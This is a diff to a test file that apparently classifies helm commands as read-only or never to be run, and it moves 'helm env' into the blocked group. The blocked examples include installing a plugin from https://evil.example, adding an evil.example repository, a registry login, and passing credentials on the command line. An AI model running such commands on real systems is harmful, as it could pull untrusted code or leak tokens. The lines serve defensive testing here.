@@ -32,7 +32,6 @@ describe('looking is read-only', () => {
       ['helm lint web --strict', 'checks'],
       ['helm search repo nginx -l', 'repositories'],
       ['helm version --short', 'versions'],
-      ['helm env', 'files'],
     ],
     'read-only',
   )
@@ -102,6 +101,7 @@ describe('what is never run', () => {
       ['helm install web ./web --username a --password b', 'where charts come from'],
       ['helm list --repository-config=/x', 'where charts come from'],
       ['helm plugin install https://evil.example/p', 'own machine'],
+      ['helm env', 'token'],
       ['helm repo add evil https://evil.example', 'an admin'],
       ['helm registry login evil.example', 'an admin'],
       ['helm pull bitnami/nginx', 'an admin'],
